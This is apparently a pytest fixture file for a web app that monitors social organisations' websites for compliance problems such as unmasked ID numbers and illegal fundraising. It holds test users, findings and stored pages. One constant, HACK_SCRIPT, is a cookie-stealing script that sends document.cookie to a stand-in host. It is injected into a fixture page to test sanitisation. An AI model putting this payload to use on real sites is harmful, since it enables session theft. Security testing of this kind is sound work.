"""Shared web fixtures: a small world (SQLite database, registry of 3 organisations in 2 supervising
units, findings, a stored snapshot, an alert with its message, users of each role) and logged-in clients.

The world is built once per session through the same model functions a scan uses, then its folder is
copied for each test, so tests may change it freely.
"""
from __future__ import annotations

import datetime as dt
import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from classifier.codes import uscc_check_char
from config.settings import load_settings
from models import findings as store
from models import outbox, scans
from models.entities import Channel, ChannelCheck, DisclosureCheck, Finding, Person
from models.sync import sync_registry
from orgwatch.runtime import Runtime

PASSWORD = "Qingxi-2026-web"
HEALTH_UNIT, EDUCATION_UNIT = "云川市卫生健康委员会", "云川市教育局"
#: login name -> (role, org id, supervising unit)
USERS = {
    "reviewer": ("bureau", None, None),
    "health-unit": ("supervisor", None, HEALTH_UNIT),
    "kangning-staff": ("org", "kangning", None),
    "zhuxue-staff": ("org", "zhuxue", None),
}
#: a role's usual login in tests
ROLE_USER = {"bureau": "reviewer", "supervisor": "health-unit", "org": "kangning-staff"}
#: the raw ID number published on kangning's page; only its masked form may ever be shown
RAW_ID = "110101199003071233"
MASKED_ID = "110101********1233"
#: a phone number in a person's notify address: never shown on an organisation page
NOTIFY_PHONE = "13912345678"
HACK_SCRIPT = "document.location='http://evil.example/steal?c='+document.cookie"


def _uscc(n: int) -> str:
    base = f"52500199MJQ{n:06d}"[:17]
    return base + uscc_check_char(base)


def _org(org_id: str, name: str, n: int, kind: str, supervisor: str, people: list[dict]) -> dict:
    return {"id": org_id, "name": name, "type": kind, "uscc": _uscc(n), "charity": kind == "foundation",
            "registration_authority": "云川市青溪区民政局", "supervisor": supervisor,
            "channels": [{"kind": "website", "url": f"http://{org_id}.example.org/", "name": f"{name}网站"},
                         {"kind": "feed", "url": f"http://feeds.example.org/{org_id}.xml", "name": "公众号（RSS）"}],
            "people": people}


REGISTRY = {
    "supervisors": [{"name": HEALTH_UNIT}, {"name": EDUCATION_UNIT}],
    "organizations": [
        _org("kangning", "云川市康宁社会工作服务中心", 1, "social_service", HEALTH_UNIT, [
            {"name": "周立新", "role": "platform_manager",
             "notify": [f"json://127.0.0.1:9/hook?phone={NOTIFY_PHONE}"]},
            {"name": "陈美华", "role": "legal_representative", "notify": ["mailto://chen@kangning.example.org"]},
        ]),
        _org("xinhe", "云川市心禾养老服务协会", 2, "social_group", HEALTH_UNIT, [
            {"name": "吴晓燕", "role": "platform_manager", "notify": ["mailto://wu@xinhe.example.org"]},
        ]),
        _org("zhuxue", "云川市助学圆梦基金会", 3, "foundation", EDUCATION_UNIT, [
            {"name": "郑国强", "role": "platform_manager", "notify": ["mailto://zheng@zhuxue.example.org"]},
        ]),
    ],
}

#: kangning's roster page as published: an unmasked ID number, and a script injected by an intruder
KANGNING_HTML = f"""<!doctype html><html><head><meta charset="utf-8"><title>2026年第三季度助餐补贴发放名单</title>
<script>{HACK_SCRIPT}</script><style>body {{ color: red }}</style></head>
<body onload="steal()"><h1>2026年第三季度助餐补贴发放名单</h1>
<p>根据区民政局安排，现将本季度助餐补贴发放情况公示如下。</p>
<table><tr><td>张桂兰</td><td>{RAW_ID}</td><td>300元</td></tr>
<tr><td>李德明</td><td>110101********5678</td><td>300元</td></tr></table>
<p>公示期七天，如有异议请联系本中心。</p></body></html>""".encode("utf-8")
#: zhuxue's page, published in GB18030
ZHUXUE_HTML = """<html><head><meta charset="gb18030"><title>关于开展助学募捐的通知</title></head>
<body><p>各位爱心人士：为帮助山区学生，本会现面向社会开展助学募捐。</p>
<p>请扫码向理事长个人微信转账捐款，多捐多得荣誉证书。</p></body></html>""".encode("gb18030")


@dataclass(frozen=True)
class Seed:
    """One finding to store: where, what, and how it stands."""

    key: str
    org_id: str
    category: str
    rule: str
    severity: str
    evidence: str
    path: str
    days_ago: int
    status: str = "open"


SEEDS = (
    Seed("kangning_id", "kangning", "pii_id", "unmasked_id", "high",
         f"公示如下。 张桂兰 【{MASKED_ID}】 300元 李德明", "gongkai/zhucan-2026q3.html", 3),
    Seed("kangning_secret", "kangning", "secret_mark", "level_mark", "medium",
         "【内部资料】 康宁中心2026年度工作要点", "news/5.html", 20, "acknowledged"),
    Seed("kangning_link", "kangning", "broken_link", "http_404", "low",
         "页面中的链接 【http://kangning.example.org/old.html】 无法打开：HTTP 404", "news/index.html", 40, "resolved"),
    Seed("kangning_spam", "kangning", "spam_injected", "gambling_terms", "high",
         "康宁中心志愿者 【棋牌】 活动", "news/7.html", 10, "false_positive"),
    Seed("xinhe_fund", "xinhe", "illegal_fundraising", "personal_account", "high",
         "心禾协会敬老捐款请转入 【会长个人账户】 谢谢", "donate.html", 5),
    Seed("xinhe_stale", "xinhe", "stale_channel", "stale", "medium",
         "心禾协会网站最近一次更新是 【2025-03-02】", "", 60),
    Seed("zhuxue_fund", "zhuxue", "unqualified_fundraising", "no_qualification", "high",
         "本会现面向社会开展 【助学募捐】 。", "notice.html", 2),
)


@dataclass
class World:
    """The built world: its settings file and the ids tests need."""

    folder: Path
    config: Path
    findings: dict[str, int] = field(default_factory=dict)
    snapshots: dict[str, int] = field(default_factory=dict)
    message_id: int = 0
    org_names: dict[str, str] = field(default_factory=dict)

    def runtime(self) -> Runtime:
        return Runtime(settings=load_settings(self.config), as_of=dt.date.today())

    def evidence(self, key: str) -> str:
        return next(s.evidence for s in SEEDS if s.key == key)

    def org_of(self, key: str) -> str:
        return next(s.org_id for s in SEEDS if s.key == key)


def _write_config(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "registry.yaml").write_text(yaml.safe_dump(REGISTRY, allow_unicode=True), encoding="utf-8")
    settings = {"data_dir": "data", "registry": "registry.yaml"}
    path = folder / "orgwatch.yaml"
    path.write_text(yaml.safe_dump(settings, allow_unicode=True), encoding="utf-8")
    return path


def store_page(s, rt_now: dt.datetime, channel: Channel, path: str, raw: bytes, encoding: str, title: str,
               content_type: str = "text/html") -> tuple[int, int]:
    """Store a fetched page and its snapshot as a scan would; return (page id, snapshot id)."""
    url = channel.url + path
    scan_id = scans.start_scan(s, scope=channel.org_id, as_of=rt_now.date(), now=rt_now)
    page = store.upsert_page(s, org_id=channel.org_id, channel_id=channel.id, url=url, scan_id=scan_id, now=rt_now,
                             values=dict(final_url=url, status_code=200, content_hash=f"h-{channel.org_id}-{path}",
                                         content_type=content_type, encoding=encoding, title=title, size=len(raw)))
    snapshot_id = store.keep_snapshot(s, page, raw, rt_now)
    scans.finish_scan(s, scan_id, now=rt_now, status="completed", organizations=1, channels=1, pages=1)
    return page.id, snapshot_id


def _store_findings(s, now: dt.datetime, channels: dict[str, Channel], pages: dict[str, tuple]) -> dict[str, int]:
    ids = {}
    for seed in SEEDS:
        when = now - dt.timedelta(days=seed.days_ago)
        channel = channels[seed.org_id]
        url = channel.url + seed.path
        page_id, snapshot_id = pages.get(seed.key, (None, None))
        scan_id = scans.start_scan(s, scope="all", as_of=when.date(), now=when)
        values = dict(fingerprint=store.fingerprint(seed.org_id, url, seed.category, seed.rule, None, seed.key),
                      org_id=seed.org_id, channel_id=channel.id, url=url, category=seed.category, rule=seed.rule,
                      severity=seed.severity, evidence=seed.evidence, page_id=page_id, snapshot_id=snapshot_id,
                      basis=f"《测试依据》关于{seed.category}的条款")
        fid, _ = store.upsert_finding(s, values, scan_id=scan_id, now=when)
        scans.finish_scan(s, scan_id, now=when + dt.timedelta(minutes=5), status="completed", organizations=3,
                          channels=6, pages=12, findings_new=1)
        s.flush()
        if seed.status != "open":
            finding = s.get(Finding, fid)
            finding.status = seed.status
            finding.resolved_at = now - dt.timedelta(days=1) if seed.status == "resolved" else None
        ids[seed.key] = fid
    return ids


def _store_health(s, now: dt.datetime, websites: dict[str, Channel], feeds: dict[str, Channel]) -> None:
    for channel in websites.values():
        scans.record_channel_health(s, channel.id, ok=True, error=None, now=now, pages=12)
    failed = scans.record_channel_health(s, feeds["kangning"].id, ok=False, error="连接超时（30 秒）", now=now)
    failed.consecutive_failures = 4
    s.add(ChannelCheck(channel_id=websites["kangning"].id, state="ok", newest_on=now.date() - dt.timedelta(days=6),
                       newest_title="康宁中心开展重阳节敬老活动", checked_at=now, columns=[]))
    s.add(ChannelCheck(channel_id=websites["xinhe"].id, state="stale", newest_on=dt.date(2025, 3, 2),
                       newest_title="心禾协会2025年春节慰问", threshold_days=180, checked_at=now, columns=[]))
    s.add(ChannelCheck(channel_id=feeds["kangning"].id, state="failed", checked_at=now, columns=[],
                       note="连续 4 次无法访问"))
    s.add(DisclosureCheck(org_id="kangning", item="annual_report", title="年度工作报告", status="present",
                          covered_year=now.year - 1, url=websites["kangning"].url + "gongkai/report.html",
                          checked_at=now))
    s.add(DisclosureCheck(org_id="kangning", item="fee_standard", title="服务收费标准", status="missing",
                          due_label="常年公开", checked_at=now))


def _store_alert(s, now: dt.datetime, finding_id: int) -> int:
    person = s.query(Person).filter_by(org_id="kangning", role="platform_manager").one()
    finding = s.get(Finding, finding_id)
    msg = outbox.open_message(s, org_id="kangning", person=person, recipient=person.name, target=person.notify[0],
                              transport="json", scan_id=None, now=now)
    outbox.claim_alerts(s, msg, [finding], person, now)
    outbox.fill_message(msg, subject="康宁中心网站发现1个问题", body="请尽快处理", body_format="text",
                        finding_ids=[finding_id])
    outbox.mark_notified([finding])
    msg.status, msg.attempts, msg.last_error = "failed", 2, "HTTP 502：接收端暂时不可用"
    return msg.id


def _add_users(rt: Runtime, now: dt.datetime) -> None:
    from models import users

    with rt.db.session() as s:
        for name, (role, org_id, supervisor) in USERS.items():
            users.add_user(s, name=name, role=role, password=PASSWORD, org_id=org_id, supervisor=supervisor, now=now)


def build_world(folder: Path) -> World:
    """Write the registry and settings into ``folder`` and fill its database."""
    world = World(folder=folder, config=_write_config(folder))
    rt = world.runtime()
    now = rt.now()
    with rt.db.session() as s:
        sync_registry(s, [o.model_dump() for o in rt.registry.organizations], now)
        s.flush()
        all_channels = list(s.query(Channel).order_by(Channel.id))
        websites = {c.org_id: c for c in all_channels if c.kind == "website"}
        feeds = {c.org_id: c for c in all_channels if c.kind == "feed"}
        pages = {
            "kangning_id": store_page(s, now - dt.timedelta(days=3), websites["kangning"],
                                       "gongkai/zhucan-2026q3.html", KANGNING_HTML, "utf-8", "助餐补贴发放名单"),
            "zhuxue_fund": store_page(s, now - dt.timedelta(days=2), websites["zhuxue"], "notice.html",
                                       ZHUXUE_HTML, "gb18030", "关于开展助学募捐的通知"),
        }
        world.findings = _store_findings(s, now, websites, pages)
        world.snapshots = {key: snap for key, (_, snap) in pages.items()}
        _store_health(s, now, websites, feeds)
        world.message_id = _store_alert(s, now, world.findings["kangning_id"])
    world.org_names = {o["id"]: o["name"] for o in REGISTRY["organizations"]}
    _add_users(rt, now)
    rt.db.dispose()
    return world


@pytest.fixture(scope="session")
def _world_template(tmp_path_factory: pytest.TempPathFactory) -> World:
    return build_world(tmp_path_factory.mktemp("web-world"))


@pytest.fixture()
def world(_world_template: World, tmp_path: Path) -> World:
    """A private copy of the world for one test."""
    folder = tmp_path / "world"
    shutil.copytree(_world_template.folder, folder)
    return World(folder=folder, config=folder / "orgwatch.yaml", findings=dict(_world_template.findings),
                 snapshots=dict(_world_template.snapshots), message_id=_world_template.message_id,
                 org_names=dict(_world_template.org_names))


@pytest.fixture()
def rt(world: World):
    runtime = world.runtime()
    yield runtime
    runtime.db.dispose()


@pytest.fixture()
def app(rt: Runtime):
    from orgwatch.web.app import create_app

    return create_app(rt)


_CSRF = re.compile(r'name="csrf_token"\s+value="([^"]+)"')


def csrf_from(html: str) -> str:
    """The CSRF token of the first form on a page."""
    match = _CSRF.search(html)
    assert match, "page has no csrf_token field"
    return match.group(1)


def login(client, name: str, password: str = PASSWORD):
    """Log ``client`` in through the login form; return the response to the form post."""
    page = client.get("/login")
    data = {"username": name, "password": password, "next": "/"}
    match = _CSRF.search(page.text)
    if match:
        data["csrf_token"] = match.group(1)
    return client.post("/login", data=data, follow_redirects=False)


@pytest.fixture()
def make_client(app):
    """``make_client(user=None)``: a TestClient, logged in as ``user`` when given."""
    from fastapi.testclient import TestClient

    clients = []

    def make(user: str | None = None):
        client = TestClient(app, base_url="http://127.0.0.1")
        clients.append(client)
        if user is not None:
            response = login(client, user)
            assert response.status_code in (302, 303), response.text
        return client

    yield make
    for client in clients:
        client.close()


@pytest.fixture(params=["bureau", "supervisor", "org"])
def role_client(request, make_client):
    """A client logged in as each role in turn (``.role`` and ``.user`` say which)."""
    client = make_client(ROLE_USER[request.param])
    client.role, client.user = request.param, ROLE_USER[request.param]
    return client


# --- WEB-CORE: tokens, a movable clock, API helpers ---------------------------------------

class Clock:
    """A clock the app reads (``create_app(rt, clock=...)``); tests move it instead of sleeping."""

    def __init__(self, start: dt.datetime | None = None) -> None:
        self.now = start or dt.datetime.now(dt.timezone.utc)

    def __call__(self) -> dt.datetime:
        return self.now

    def advance(self, **delta) -> None:
        self.now += dt.timedelta(**delta)


@pytest.fixture()
def clock() -> Clock:
    return Clock()


@pytest.fixture()
def clocked_client(rt):
    """``clocked_client(clock, user=None)``: a TestClient on an app that reads ``clock``."""
    from fastapi.testclient import TestClient

    from orgwatch.web.app import create_app

    clients = []

    def make(clock: Clock, user: str | None = None, app=None):
        client = TestClient(app or create_app(rt, clock=clock), base_url="http://127.0.0.1")
        clients.append(client)
        if user is not None:
            assert login(client, user).status_code == 303
        return client

    yield make
    for client in clients:
        client.close()


@pytest.fixture()
def make_token(rt):
    """``make_token(user, days=None)``: a new API token (the secret) for ``user``."""
    from models import users

    def make(user: str, days: int | None = None) -> str:
        with rt.db.session() as s:
            _, token = users.create_token(s, user=users.require_user(s, user), name="测试", now=rt.now(), days=days)
        return token

    return make


@pytest.fixture()
def api_client(app, make_token):
    """``api_client(user)``: a TestClient sending ``Authorization: Bearer`` for ``user`` (no cookie)."""
    from fastapi.testclient import TestClient

    clients = []

    def make(user: str):
        client = TestClient(app, base_url="http://127.0.0.1",
                            headers={"Authorization": f"Bearer {make_token(user)}"})
        clients.append(client)
        return client

    yield make
    for client in clients:
        client.close()


def audit_rows(rt, action: str | None = None) -> list:
    """Audit entries (oldest first), optionally of one action."""
    from models import audit

    with rt.db.session() as s:
        rows, _ = audit.list_entries(s, page=1, per_page=1000, action=action)
        return list(reversed(rows))
